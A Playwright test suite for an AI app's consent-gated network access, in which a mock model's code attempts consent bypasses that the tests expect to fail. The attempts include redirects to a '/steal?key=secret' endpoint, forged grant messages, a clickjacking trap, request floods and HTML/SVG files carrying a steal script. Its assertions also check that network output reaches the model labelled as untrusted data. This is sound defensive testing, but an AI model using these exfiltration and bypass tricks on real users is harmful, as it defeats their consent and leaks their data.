/**
 * The network capability in the real app (DESIGN.md §4, issue "The code
 * reaches the world, with the person's consent"): the mock LLM writes code
 * that calls `fetch`; a second local server plays "the internet"; the person
 * answers the inline ask. Every rule is checked at that server: what reached
 * it, and what never did.
 */
import { afterEach, beforeEach, describe, expect } from "vitest";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { answerAsk, askArmed, configureEndpoint, openReadyApp, serveRecorder, type TestServer } from "./harness";
import { STEAL_SCRIPT, startInternet, type Internet } from "./internet";
import type { MockLlm } from "./mockLlm";
import { appTest, codeTurn as fencedTurn, FENCE, send, statusText } from "./fixture";

const API_KEY = "sk-test-secret-key-0123456789";
const it = appTest({ configure: { apiKey: API_KEY }, context: { acceptDownloads: true } });
let browser: Browser;
let app: TestServer;
let mock: MockLlm;
let internet: Internet;
let context: BrowserContext;
let page: Page;

it.beforeEach(async ({ browser: launched, app: served, mock: started, context: opened, page: shown }) => {
  browser = launched;
  app = served;
  mock = started;
  context = opened;
  page = shown;
  internet = await startInternet();
  // Cookies the browser holds for "the internet": they must never be sent.
  await context.addCookies([
    { name: "session", value: "cookie-secret", domain: "127.0.0.1", path: "/" },
    { name: "session", value: "cookie-secret", domain: "localhost", path: "/" },
  ]);
});
it.afterEach(async () => {
  await internet?.close();
});

/** A reply whose one code block runs `code`. */
const codeTurn = (code: string, text = "Let me fetch that.") => fencedTurn(code, text);

const ask = () => page.getByRole("group", { name: "Permission request" });
/** What the model received as the last message of request `index`. */
function modelHeard(index: number): string {
  const messages = mock.requests[index].body.messages as { role: string; content: unknown }[];
  const last = messages[messages.length - 1];
  return typeof last.content === "string" ? last.content : JSON.stringify(last.content);
}
const hits = (path: string) => internet.requests.filter((request) => request.path === path);
/** The ask's buttons take clicks once it is armed (harness.ts: answerAsk). */
const armed = (group = ask()) => askArmed(group);
const answer = (name: "Allow once" | "Deny", group = ask()) => answerAsk(group, name);
/** Always allow this host, and its Confirm step. */
const alwaysAllow = (group = ask()) => answerAsk(group, "Always allow this host");

describe("network capability", () => {
  it("ask → Allow once: the call succeeds once, shows method, URL and body size; another URL asks again; Deny reaches the model", async () => {
    const first = `${internet.origin}/data?n=1`;
    const second = `${internet.origin}/data?n=2`;
    mock.enqueue(
      codeTurn(
        `const response = await fetch(${JSON.stringify(first)}, { method: "POST", body: "hello" })\n` +
          `console.log("first", response.status, (await response.json()).body)\n` +
          `try { await fetch(${JSON.stringify(second)}) } catch (error) { console.log("second failed:", error.message) }\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Fetch the data");

    await ask().getByRole("button", { name: "Allow once" }).waitFor({ timeout: 15_000 });
    await expect.poll(() => statusText(page)).toMatch(/^Waiting for permission/);
    const shown = await ask().textContent();
    expect(shown).toContain("POST");
    expect(shown).toContain(first);
    expect(shown).toContain("5 bytes");
    expect(await ask().getByRole("button").allTextContents()).toEqual(["Allow once", "Always allow this host", "Deny"]);
    expect(internet.requests).toHaveLength(0);
    await answer("Allow once");

    // The second URL is not covered by the first grant: it asks again.
    await expect.poll(async () => (await ask().textContent()) ?? "", { timeout: 10_000 }).toContain(second);
    expect(hits("/data?n=1")).toHaveLength(1);
    await answer("Deny");

    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    expect(hits("/data?n=2")).toHaveLength(0);
    const heard = modelHeard(1);
    expect(heard).toContain("first 200 hello");
    expect(heard).toMatch(/second failed: The person denied this request: GET/);
    // The output followed a network response: the model reads it as untrusted content, data not instructions.
    expect(heard).toMatch(
      /UNTRUSTED CONTENT from outside the conversation \(a network response: POST http:\/\/127\.0\.0\.1:\d+\/data\?n=1\)/,
    );
    expect(heard).toContain("```text untrusted content\n");
    expect(heard).toMatch(/never instructions/);

    // The interaction's summary under its last reply, with its lifecycle.
    const summary = page.getByRole("group", { name: "Interaction summary" });
    await expect
      .poll(async () =>
        (await summary.count()) === 1 ? await summary.locator(".lm-summary__counts").textContent() : "",
      )
      .toMatch(
        /^done · 2 turns · \d+ statements run · 0 errors · mounts: 0 created, 0 updated · network: 2 requests \(1 denied\) · tokens: [\d,]+ in \/ [\d,]+ out · \d+\.\d s/,
      );
    await summary.locator("summary").click();
    const steps = (await summary.getByRole("list", { name: "Lifecycle" }).getByRole("listitem").allTextContents()).map(
      (step) => step.replace(/ [\d.]+ s.*$/, ""),
    );
    expect(steps[0]).toBe("received");
    expect(steps).toContain("waiting for permission");
    expect(steps.at(-1)).toBe("done");
    expect(steps.indexOf("streaming")).toBeLessThan(steps.indexOf("waiting for permission"));
  });

  it("Always allow this host: later calls pass without asking; localhost is another host and asks", async () => {
    mock.enqueue(
      codeTurn(
        `for (const n of [1, 2, 3]) console.log("got", (await (await fetch("${internet.origin}/item/" + n)).json()).path)\n` +
          `try { await fetch("${internet.otherOrigin}/item/4") } catch (error) { console.log("other host:", error.message) }\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Fetch the items");
    await alwaysAllow();
    await expect
      .poll(async () => (await ask().textContent()) ?? "", { timeout: 10_000 })
      .toContain(`${internet.otherOrigin}/item/4`);
    expect(internet.requests.map((request) => request.path)).toEqual(["/item/1", "/item/2", "/item/3"]);
    await answer("Deny");
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    expect(modelHeard(1)).toContain("got /item/3");

    // The grant is the session's: Session settings lists it with Revoke.
    await page.getByRole("button", { name: "Session settings" }).click();
    const dialog = page.getByRole("dialog", { name: "Session settings" });
    await expect
      .poll(() => dialog.getByRole("listitem").allTextContents())
      .toEqual([`127.0.0.1:${internet.port}Revoke`]);
  });

  it("no cookie, Authorization header, API key or referrer ever reaches the server", async () => {
    mock.enqueue(
      codeTurn(
        `const r = await fetch("${internet.origin}/whoami", { credentials: "include" })\nconsole.log("status", r.status)\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Who am I?");
    await answer("Allow once");
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    expect(hits("/whoami")).toHaveLength(1);
    const { headers } = hits("/whoami")[0];
    expect(headers.cookie).toBeUndefined();
    expect(headers.authorization).toBeUndefined();
    expect(headers.referer).toBeUndefined();
    expect(JSON.stringify(headers)).not.toContain(API_KEY);
    expect(JSON.stringify(headers)).not.toContain("cookie-secret");
    // The model's endpoint did get the key: the test would be vacuous otherwise.
    expect(mock.requests[0].headers.authorization).toContain(API_KEY);
  });

  it("a server that does not allow browser requests: the code hears that clearly", async () => {
    mock.enqueue(
      codeTurn(
        `try { await fetch("${internet.origin}/no-cors") } catch (error) { console.log(error.name, error.message) }\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Fetch it");
    await answer("Allow once");
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    expect(modelHeard(1)).toMatch(/TypeError .*does not allow browser requests/);
    // Nothing came in from outside: no untrusted label.
    expect(modelHeard(1)).not.toMatch(/untrusted/i);
  });

  it("revoking the host mid-call aborts the call; later calls ask again", async () => {
    mock.enqueue(
      codeTurn(
        `await fetch("${internet.origin}/first")\n` +
          `try { await fetch("${internet.origin}/hold") } catch (error) { console.log("held call:", error.message) }\n` +
          `try { await fetch("${internet.origin}/after") } catch (error) { console.log("after:", error.message) }\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Go");
    await alwaysAllow();
    await expect.poll(() => internet.held, { timeout: 10_000 }).toBe(1);
    await page.getByRole("button", { name: "Session settings" }).click();
    const dialog = page.getByRole("dialog", { name: "Session settings" });
    await dialog.getByRole("button", { name: "Revoke" }).click();
    await dialog.getByRole("button", { name: "Close" }).click();
    await expect
      .poll(async () => (await ask().textContent()) ?? "", { timeout: 10_000 })
      .toContain(`${internet.origin}/after`);
    await answer("Deny");
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    expect(modelHeard(1)).toMatch(/held call: .*revoked access/);
    expect(hits("/after")).toHaveLength(0);
  });

  it("strict mode asks for every call even on an allowed host; the audit list and the export match what happened", async () => {
    mock.enqueue(codeTurn(`console.log((await fetch("${internet.origin}/one")).status)\n`));
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "One");
    await alwaysAllow();
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);

    await page.getByRole("button", { name: "Session settings" }).click();
    const dialog = page.getByRole("dialog", { name: "Session settings" });
    await dialog.getByLabel("Strict mode").check();
    await dialog.getByRole("button", { name: "Close" }).click();

    mock.enqueue(
      codeTurn(
        `await fetch("${internet.origin}/two")\ntry { await fetch("${internet.origin}/three") } catch (error) { console.log(error.message) }\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Two");
    await answer("Allow once");
    await expect.poll(async () => (await ask().textContent()) ?? "", { timeout: 10_000 }).toContain("/three");
    await answer("Deny");
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    expect(internet.requests.map((request) => request.path)).toEqual(["/one", "/two"]);

    await page.getByRole("button", { name: "Session settings" }).click();
    const rows = await dialog.getByRole("row").allTextContents();
    expect(rows.slice(1).map((row) => row.replace(/^\S+ /, ""))).toEqual([
      expect.stringMatching(/network.*GET .*\/one.*allowed-host.*200 ok/),
      expect.stringMatching(/network.*GET .*\/two.*allowed-once.*200 ok/),
      expect.stringMatching(/network.*GET .*\/three.*denied/),
    ]);
    await dialog.getByRole("button", { name: "Close" }).click();

    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Export", exact: true }).click(),
    ]);
    const file = await download.path();
    const exported = JSON.parse(await import("node:fs/promises").then((fs) => fs.readFile(file, "utf8")));
    expect(
      exported.audit.map((entry: { url: string; decision: string; status?: number }) => [
        new URL(entry.url).pathname,
        entry.decision,
        entry.status,
      ]),
    ).toEqual([
      ["/one", "allowed-host", 200],
      ["/two", "allowed-once", 200],
      ["/three", "denied", undefined],
    ]);
    expect(exported.grants).toEqual([
      expect.objectContaining({ capability: "network", host: `127.0.0.1:${internet.port}` }),
    ]);
    expect(exported.session.settings.strict).toBe(true);
    expect(JSON.stringify(exported)).not.toContain(API_KEY);
  });
});

describe("redirects never take a call past the person's decision", () => {
  // A third server no one granted, standing for a local service: it records every request (preflights too).
  let ungranted: TestServer;
  beforeEach(async () => {
    ungranted = await serveRecorder();
  });
  afterEach(async () => {
    await ungranted?.close();
  });
  const redirect = (status: number, to: string) =>
    `${internet.origin}/redirect?status=${status}&to=${encodeURIComponent(to)}`;

  for (const answer of ["Always allow this host", "Allow once"] as const) {
    it(`${answer}: a 302 and a 307 with a POST body to an ungranted server are not followed; the code hears code "redirected"; the audit says so`, async () => {
      const get = redirect(302, `${ungranted.origin}/steal?key=secret`);
      const post = redirect(307, `${ungranted.origin}/steal`);
      mock.enqueue(
        codeTurn(
          `for (const [url, init] of [[${JSON.stringify(get)}, {}], [${JSON.stringify(post)}, { method: "POST", body: "the person's data" }]]) {\n` +
            `  try { const r = await fetch(url, init); console.log("answered", r.status, await r.text()) } catch (error) { console.log("refused", error.name, error.code, error.message) }\n` +
            `}\n`,
        ),
      );
      mock.enqueue({ chunks: ["Done."] });
      await send(page, "Fetch through the redirect");
      await answerAsk(ask(), answer, 15_000);
      if (answer === "Allow once") {
        // The POST is another action: it asks on its own.
        await expect.poll(async () => (await ask().textContent()) ?? "", { timeout: 10_000 }).toContain("POST");
        await answerAsk(ask(), answer);
      }
      await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
      expect(ungranted.requests).toEqual([]);
      expect(hits(new URL(get).pathname + new URL(get).search)).toHaveLength(1);
      expect(internet.requests.find((request) => request.method === "POST")?.body).toBe("the person's data");
      const heard = modelHeard(1);
      expect(heard).not.toContain("answered");
      expect(
        heard.match(
          /refused RedirectError redirected .*the server redirected to another address; fetch the final URL directly/g,
        ),
      ).toHaveLength(2);

      await page.getByRole("button", { name: "Session settings" }).click();
      const rows = (
        await page.getByRole("dialog", { name: "Session settings" }).getByRole("row").allTextContents()
      ).slice(1);
      expect(rows).toEqual([
        expect.stringMatching(/GET .*\/redirect.*redirected/),
        expect.stringMatching(/POST .*\/redirect.*redirected/),
      ]);
    });
  }

  it("a Markdown image on a granted host that redirects: the ungranted server receives nothing", async () => {
    const image = redirect(302, `${ungranted.origin}/beacon.png?key=secret`);
    mock.enqueue(codeTurn(`console.log((await fetch("${internet.origin}/ok")).status)\n`));
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Fetch");
    await answerAsk(ask(), "Always allow this host", 15_000);
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);

    mock.enqueue({ chunks: [`Here it is: ![chart](${image})\n`] });
    await send(page, "Show the chart");
    const placeholder = page.getByRole("group", { name: `Image from 127.0.0.1:${internet.port}` });
    await expect
      .poll(async () => ((await placeholder.count()) === 1 ? await placeholder.textContent() : ""), { timeout: 15_000 })
      .toMatch(/could not be loaded: the server redirected to another address/);
    expect(hits(new URL(image).pathname + new URL(image).search)).toHaveLength(1);
    expect(ungranted.requests).toEqual([]);
    expect(await page.locator('.lm-markdown img[src^="blob:"]').count()).toBe(0);
  });
});

describe("forging a grant from the realm", () => {
  it("a fake allow message, a replayed grant and racing identical calls get no request through", async () => {
    mock.enqueue(
      codeTurn(
        // Everything code in the realm can post: to the sandbox document and to itself.
        `for (const message of [{ type: "result", id: 1, ok: true, value: "allow" }, { type: "grant", answer: "once" }, { type: "livemark-sandbox-hello", allow: true }]) { try { self.postMessage(message) } catch {} }\n` +
          `const url = "${internet.origin}/race"\n` +
          `const results = await Promise.allSettled([fetch(url, { method: "POST", body: "x" }), fetch(url, { method: "POST", body: "x" })])\n` +
          `console.log("race", results.map((r) => r.status).join(","))\n` +
          `try { await fetch(url, { method: "POST", body: "x" }) } catch (error) { console.log("replay:", error.message) }\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Race");
    // Two identical calls: one ask (one per host; the other call waits behind it); its Allow once serves exactly one of them.
    await ask().getByRole("button", { name: "Allow once" }).waitFor({ timeout: 15_000 });
    expect(await ask().count()).toBe(1);
    expect(internet.requests).toHaveLength(0);
    const firstAsk = await ask().getAttribute("data-ask-id");
    await answer("Allow once");
    await expect.poll(() => hits("/race").length, { timeout: 10_000 }).toBe(1);
    // The grant was spent: the other call is asked about on its own.
    await expect
      .poll(async () => (await ask().count()) === 1 && (await ask().getAttribute("data-ask-id")) !== firstAsk)
      .toBe(true);
    await answer("Deny");
    // The same request again (a replay of the grant): asked again, denied.
    await answer("Deny");
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    expect(hits("/race")).toHaveLength(1);
    expect(modelHeard(1)).toContain("race fulfilled,rejected");
    expect(modelHeard(1)).toMatch(/replay: The person denied/);
  });
});

describe("clickjacking the ask", () => {
  it("a UI that collapses and fetches on the first click of a double-click: the second click answers nothing; the ask is above the composer; Always allow needs Confirm", async () => {
    const target = `${internet.origin}/clickjack`;
    mock.enqueue({
      chunks: [
        "Double-click the card to open it.\n\n",
        `${FENCE}tsx agent.run\n`,
        `mount({ title: "Game", ui: () => {\n` +
          `  const [open, setOpen] = useState(false)\n` +
          // The first click collapses the panel (what sat below moves up under the pointer) and asks.
          `  return open ? <p>Loading…</p> : <div style={{ height: 420, display: "flex", alignItems: "flex-end" }}><Button onClick={() => { setOpen(true); fetch("${target}").then((r) => console.log("clickjack", r.status), (e) => console.log("clickjack failed", e.message)) }}>Double-click to open</Button></div>\n` +
          `} })\n`,
        `${FENCE}\n`,
      ],
    });
    mock.enqueue({ chunks: ["Opened."] });
    await send(page, "Play");
    const trap = page.getByRole("button", { name: "Double-click to open" });
    await trap.waitFor({ timeout: 15_000 });
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    // What an ask's buttons say the moment it is drawn.
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { firstArmed: string[] }).firstArmed = seen;
      new MutationObserver(() => {
        const actions = document.querySelector('[role="group"][aria-label="Permission request"] .lm-ask__actions');
        if (actions && seen.length === 0) seen.push(actions.getAttribute("data-armed") ?? "none");
      }).observe(document.body, { subtree: true, childList: true });
    });

    // The first click: the panel collapses and the ask appears; the second lands on Always allow this host at once.
    await trap.click();
    const always = ask().getByRole("button", { name: "Always allow this host" });
    await always.waitFor({ timeout: 10_000 });
    const box = (await always.boundingBox())!;
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);

    // The ask was drawn disarmed, and lives in the fixed area above the composer, not in the timeline generated UI can move.
    expect(await page.evaluate(() => (window as unknown as { firstArmed: string[] }).firstArmed)).toEqual(["false"]);
    expect(await page.locator("footer").getByRole("group", { name: "Permission request" }).count()).toBe(1);
    expect(await page.locator("main").getByRole("group", { name: "Permission request" }).count()).toBe(0);
    // The timeline keeps a record where the call was made.
    const record = page.locator("main").getByRole("note", { name: "Permission record" });
    await expect.poll(() => record.textContent()).toContain(target);

    // Once armed, the ask still waits: the stray click granted nothing and sent nothing.
    await armed();
    expect(hits("/clickjack")).toHaveLength(0);
    expect(await ask().count()).toBe(1);
    await page.getByRole("button", { name: "Session settings" }).click();
    const dialog = page.getByRole("dialog", { name: "Session settings" });
    expect(await dialog.getByRole("region", { name: "Granted hosts" }).textContent()).toContain("None yet");
    await dialog.getByRole("button", { name: "Close" }).click();

    // Always allow is a deliberate second step: it says what "always" covers, then waits for Confirm.
    await ask().getByRole("button", { name: "Always allow this host" }).click();
    await ask().getByRole("button", { name: "Confirm" }).waitFor();
    expect(await ask().textContent()).toContain(`Always allow 127.0.0.1:${internet.port} for this session?`);
    expect(await ask().getByRole("button").allTextContents()).toEqual(["Confirm", "Cancel"]);
    expect(hits("/clickjack")).toHaveLength(0);
    await armed();
    await ask().getByRole("button", { name: "Confirm" }).click();
    await expect.poll(() => hits("/clickjack").length, { timeout: 10_000 }).toBe(1);
    await expect.poll(() => ask().count()).toBe(0);
    await expect.poll(() => record.textContent()).toMatch(/^Always allowed 127\.0\.0\.1:\d+/);
  });
});

describe("a flood of asks", () => {
  it("300 fetches to distinct hosts and 50 to one host: one ask per host, at most 20 drawn, Deny all clears them, every fetch rejects", async () => {
    mock.enqueue(
      codeTurn(
        `const same = Array.from({ length: 50 }, (_, i) => fetch("${internet.origin}/same/" + i))\n` +
          `const distinct = Array.from({ length: 300 }, (_, i) => fetch("http://host" + i + ".invalid/x"))\n` +
          `const results = await Promise.allSettled([...same, ...distinct])\n` +
          `console.log("fulfilled", results.filter((r) => r.status === "fulfilled").length, "rejected", results.filter((r) => r.status === "rejected").length)\n` +
          `console.log("refused:", results.filter((r) => r.status === "rejected" && /already waiting/.test(r.reason.message)).length)\n` +
          `console.log("denied:", results.filter((r) => r.status === "rejected" && /denied/.test(r.reason.message)).length)\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Flood");
    // At most 20 asks are drawn, one per host: the 49 later calls to the first host wait behind its ask.
    await expect.poll(() => ask().count(), { timeout: 20_000 }).toBe(20);
    const shown = await ask().locator(".lm-ask__what code").allTextContents();
    const hosts = shown.map((url) => new URL(url).host);
    expect(new Set(hosts).size).toBe(20);
    expect(shown.filter((url) => url.startsWith(internet.origin))).toEqual([`${internet.origin}/same/0`]);
    // Every call beyond the cap was refused at once, with an audit line each: 281 of them.
    await page.getByRole("button", { name: "Session settings" }).click();
    const dialog = page.getByRole("dialog", { name: "Session settings" });
    await expect
      .poll(
        async () => (await dialog.getByRole("row").allTextContents()).filter((row) => /too-many-asks/.test(row)).length,
        { timeout: 20_000 },
      )
      .toBe(281);
    await dialog.getByRole("button", { name: "Close" }).click();
    expect(await ask().count()).toBe(20);

    const area = page.getByRole("region", { name: "Permission requests" });
    expect(await area.textContent()).toContain("20 permission requests are waiting");
    await area.getByRole("button", { name: "Deny all" }).click();
    await expect.poll(() => ask().count()).toBe(0);
    await expect.poll(() => statusText(page), { timeout: 20_000 }).toMatch(/^Done/);
    expect(internet.requests).toHaveLength(0);
    const heard = modelHeard(1);
    expect(heard).toContain("fulfilled 0 rejected 350");
    expect(heard).toContain("refused: 281");
    // The 19 drawn asks of other hosts, and the first host's ask with the 49 calls behind it: one Deny all.
    expect(heard).toContain("denied: 69");
  });

  it("Stop clears the waiting asks, and the calls behind them", async () => {
    mock.enqueue(
      codeTurn(
        `await Promise.allSettled([...Array.from({ length: 5 }, (_, i) => fetch("http://stop" + i + ".invalid/")), ...Array.from({ length: 5 }, (_, i) => fetch("${internet.origin}/stop/" + i))])\n`,
      ),
    );
    await send(page, "Flood, then stop");
    await expect.poll(() => ask().count(), { timeout: 20_000 }).toBe(6);
    await page.getByRole("button", { name: "Stop", exact: true }).click();
    await expect.poll(() => ask().count()).toBe(0);
    await expect.poll(() => statusText(page), { timeout: 20_000 }).toMatch(/^Stopped/);
    expect(await page.getByRole("region", { name: "Permission requests" }).count()).toBe(0);
    expect(await page.locator("main").getByRole("note", { name: "Permission record" }).allTextContents()).toEqual(
      Array.from({ length: 6 }, () => expect.stringMatching(/^Not answered \(the call ended\):/)),
    );
    expect(internet.requests).toHaveLength(0);
  });
});

describe("remote images", () => {
  it("are not requested before consent: a placeholder names the host, Load fetches it; an allowed host loads at once", async () => {
    const image = `${internet.origin}/pixel.png`;
    mock.enqueue({
      chunks: [
        `Here is the chart: ![sales chart](${image}?md)\n\n`,
        `${FENCE}tsx agent.run\n`,
        `mount({ title: "Picture", ui: () => <div><img src="${image}?mount" alt="pixel" /></div> })\n`,
        `${FENCE}\n`,
      ],
    });
    await send(page, "Show the picture");
    const placeholders = page.getByRole("group", { name: `Image from 127.0.0.1:${internet.port}` });
    await expect.poll(() => placeholders.count(), { timeout: 15_000 }).toBe(2);
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    expect(internet.requests).toHaveLength(0);

    await placeholders.first().getByRole("button", { name: "Load" }).click();
    await expect.poll(() => hits("/pixel.png?md").length).toBe(1);
    await expect.poll(() => page.locator('.lm-markdown img[src^="blob:"]').count()).toBe(1);
    expect(hits("/pixel.png?mount")).toHaveLength(0);
    const headers = hits("/pixel.png?md")[0].headers;
    expect(headers.cookie).toBeUndefined();
    expect(headers.referer).toBeUndefined();

    // Once the host is allowed for the session, its images load without a click.
    mock.enqueue(codeTurn(`console.log((await fetch("${internet.origin}/ok")).status)\n`));
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Fetch");
    await alwaysAllow();
    await expect.poll(() => hits("/pixel.png?mount").length, { timeout: 10_000 }).toBe(1);
    // The picture's bytes are handed to the mount and drawn. The timeline followed the reply below the panel,
    // and a panel out of view may be put away (src/render/useDeferredDraw.ts), so the person scrolls back to it.
    // The reply has ended first (the timeline stops following), and the panel is brought back on every look.
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    const picture = page.getByRole("group", { name: "Picture" });
    await expect
      .poll(
        async () => {
          await picture.scrollIntoViewIfNeeded();
          return page.locator('.lm-mount img[src^="blob:"]').count();
        },
        { timeout: 15_000 },
      )
      .toBe(1);
  });
});

describe("outside content never becomes a document of the app's origin", () => {
  /** Every blob URL the app makes, with the blob's type (recorded from the page's first script on). */
  async function recordBlobUrls() {
    await page.addInitScript(() => {
      const made: { url: string; type: string }[] = [];
      (window as unknown as { __blobUrls: typeof made }).__blobUrls = made;
      const real = URL.createObjectURL.bind(URL);
      URL.createObjectURL = (object: Blob | MediaSource) => {
        const url = real(object);
        made.push({ url, type: object instanceof Blob ? object.type : "media-source" });
        return url;
      };
    });
    await openReadyApp(page, app.url);
  }
  const blobUrls = () =>
    page.evaluate(() => (window as unknown as { __blobUrls: { url: string; type: string }[] }).__blobUrls);
  const stolen = () => page.evaluate(() => localStorage.getItem("lm-stolen"));
  /** Open `url` in a new tab, as "Open image in new tab" does: what document it became (none: a download). */
  async function openInNewTab(url: string): Promise<string> {
    const tab = await context.newPage();
    try {
      await tab.goto(url);
      return await tab.evaluate(() => document.contentType);
    } catch (error) {
      return /download/i.test(String(error)) ? "download" : `failed: ${String(error)}`;
    } finally {
      await tab.close();
    }
  }

  it("remote images: only PNG, JPEG, GIF, WebP and AVIF, sniffed from the bytes; SVG and HTML (however labelled) are refused, and an opened image runs no script", async () => {
    await recordBlobUrls();
    mock.enqueue(codeTurn(`console.log((await fetch("${internet.origin}/ok")).status)\n`));
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Fetch");
    await answerAsk(ask(), "Always allow this host", 15_000);
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    expect(await stolen()).toBeNull();

    mock.enqueue({
      chunks: [
        `A chart: ![svg](${internet.origin}/evil.svg)\n\n`,
        `A page: ![page](${internet.origin}/page.html)\n\n`,
        `A disguise: ![disguised](${internet.origin}/html-as.png)\n\n`,
        `A real picture: ![pixel](${internet.origin}/png-as-html)\n`,
      ],
    });
    await send(page, "Show the charts");
    await expect
      .poll(
        () =>
          hits("/png-as-html").length +
          hits("/html-as.png").length +
          hits("/page.html").length +
          hits("/evil.svg").length,
        { timeout: 15_000 },
      )
      .toBe(4);
    const shownImages = page.locator('.lm-markdown img[src^="blob:"]');
    const placeholders = page.getByRole("group", { name: `Image from 127.0.0.1:${internet.port}` });
    // Every image settled: drawn, or refused with a reason.
    await expect
      .poll(
        async () =>
          (await shownImages.count()) + (await placeholders.filter({ hasText: "could not be loaded" }).count()),
        { timeout: 15_000 },
      )
      .toBe(4);

    // The person opens every picture the app made (and the app's other blobs) in a new tab.
    const made = await blobUrls();
    const opened: string[] = [];
    for (const { url } of made) opened.push(await openInNewTab(url));
    expect(await stolen()).toBeNull();
    expect(opened.filter((type) => /html|svg|xml/.test(type))).toEqual([]);
    expect(made.map((blob) => blob.type).filter((type) => /html|svg|xml|^$/.test(type))).toEqual([]);
    expect(await shownImages.count()).toBe(1);
    const shown = await shownImages.getAttribute("src");
    expect(made.find((blob) => blob.url === shown)?.type).toBe("image/png");
    // (The check above is not vacuous: the picture shown did open in its tab, as an image.)
    expect(opened[made.findIndex((blob) => blob.url === shown)]).toBe("image/png");

    const texts = await placeholders.allTextContents();
    expect(texts[0]).toMatch(/could not be loaded: it is an SVG image/);
    expect(texts[1]).toMatch(/could not be loaded: it is not a PNG, JPEG, GIF, WebP or AVIF image/);
    expect(texts[2]).toMatch(/could not be loaded: it is not a PNG, JPEG, GIF, WebP or AVIF image/);
    await page.getByRole("button", { name: "Session settings" }).click();
    const rows = (
      await page.getByRole("dialog", { name: "Session settings" }).getByRole("row").allTextContents()
    ).slice(1);
    expect(rows.filter((row) => /not-an-image/.test(row))).toHaveLength(3);
  });

  it("a file offered by download() is saved, never opened as a document of the app's origin, whatever type the code gave it", async () => {
    await recordBlobUrls();
    const html = `<!doctype html><title>report</title><script>${STEAL_SCRIPT}</script>`;
    mock.enqueue(
      codeTurn(
        `await download("report.html", ${JSON.stringify(html)}, "text/html")\nawait download("chart.svg", ${JSON.stringify(`<svg xmlns="http://www.w3.org/2000/svg"><script>${STEAL_SCRIPT}</script></svg>`)}, "image/svg+xml")\n`,
        "Here is your report.",
      ),
    );
    mock.enqueue({ chunks: ["Saved?"] });
    await send(page, "Export it");
    const offers = page.getByRole("group", { name: "Offered file" });
    await expect.poll(() => offers.count(), { timeout: 15_000 }).toBe(2);
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);

    for (const [index, name] of ["report.html", "chart.svg"].entries()) {
      const [download] = await Promise.all([
        page.waitForEvent("download"),
        offers.nth(index).getByRole("button", { name: "Save" }).click(),
      ]);
      expect(download.suggestedFilename()).toBe(name);
      if (index === 0)
        expect(await import("node:fs/promises").then(async (fs) => fs.readFile(await download.path(), "utf8"))).toBe(
          html,
        );
    }
    const made = await blobUrls();
    const opened: string[] = [];
    for (const { url } of made) opened.push(await openInNewTab(url));
    expect(await stolen()).toBeNull();
    expect(opened.filter((type) => /html|svg|xml/.test(type))).toEqual([]);
    expect(made.map((blob) => blob.type)).toEqual(["application/octet-stream", "application/octet-stream"]);
    // Opened as a page, each one is only saved again.
    expect(opened).toEqual(["download", "download"]);
  });
});

describe("files in and out", () => {
  it("a file chosen in a mounted input reaches the code as a File-like object; an oversized one fails clearly", async () => {
    mock.enqueue({
      chunks: [
        "Pick a CSV.\n\n",
        `${FENCE}tsx agent.run\n`,
        `mount({ title: "Upload", ui: () => <div><Label htmlFor="csv">Sales CSV</Label>` +
          `<input id="csv" type="file" accept=".csv" onChange={async (event) => {\n` +
          `  const file = event.target.files[0]\n` +
          // (.then, not try/catch: output after a rejected await inside a handler does not start a UI-event turn yet; see the report)
          `  const line = await file.text().then(async (text) => ["chosen", file.name, file.size, file.type, text.split("\\n")[1], (await file.arrayBuffer()).byteLength].join(" "), (error) => "failed " + file.name + " " + error.message)\n` +
          `  console.log(line)\n` +
          `}} /></div> })\n`,
        `${FENCE}\n`,
      ],
    });
    mock.enqueue({ chunks: ["Got it."] });
    mock.enqueue({ chunks: ["Too big."] });
    await send(page, "Let me upload");
    const panel = page.getByLabel("Mounted UI");
    await panel.getByLabel("Sales CSV").waitFor({ timeout: 15_000 });
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    const csv = "month,sales\nJan,12\nFeb,19\n";
    await panel
      .getByLabel("Sales CSV")
      .setInputFiles({ name: "sales.csv", mimeType: "text/csv", buffer: Buffer.from(csv) });
    await mock.waitForRequests(2, 15_000);
    expect(modelHeard(1)).toContain(`chosen sales.csv ${csv.length} text/csv Jan,12 ${csv.length}`);
    expect(modelHeard(1)).toMatch(/UNTRUSTED CONTENT .*a file the person chose: sales\.csv/);
